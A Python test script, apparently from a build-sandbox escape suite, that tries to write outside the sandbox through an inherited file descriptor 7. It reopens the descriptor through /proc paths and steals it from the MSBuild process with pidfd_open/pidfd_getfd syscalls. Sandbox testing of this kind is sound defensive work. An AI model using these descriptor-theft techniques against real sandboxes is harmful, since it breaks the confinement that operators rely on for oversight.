"""Write through descriptor 7, which the harness opened (no CLOEXEC) on a file outside the sandbox
before it started dotnet build, so MSBuild holds it and would pass it to every child process."""
import ctypes
import os
from escape import T, allowed, append, attempt, finish, msbuild_pid, say

pid = msbuild_pid()
libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438


def steal_fd_7():
    pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, 7, 0) if pidfd >= 0 else -1
    if fd < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return append(f"/proc/self/fd/{fd}")


say("descriptors of the step: " + " ".join(sorted(os.listdir("/proc/self/fd"), key=int)))
attempt("write-fd-7", lambda: f"wrote {os.write(7, b'pwned through fd 7' + bytes([10]))} bytes")
attempt("reopen-self-fd-7", lambda: append("/proc/self/fd/7"))
allowed("list-msbuild-fds", lambda: f"listed {len(os.listdir(f'/proc/{pid}/fd'))} descriptors")
attempt("readlink-msbuild-fd-7", lambda: "points to " + os.readlink(f"/proc/{pid}/fd/7"))
attempt("reopen-msbuild-fd-7", lambda: append(f"/proc/{pid}/fd/7"))
attempt("pidfd-getfd-7", steal_fd_7)
attempt("write-by-path", lambda: append(T["inheritedFdVictim"]))
finish()
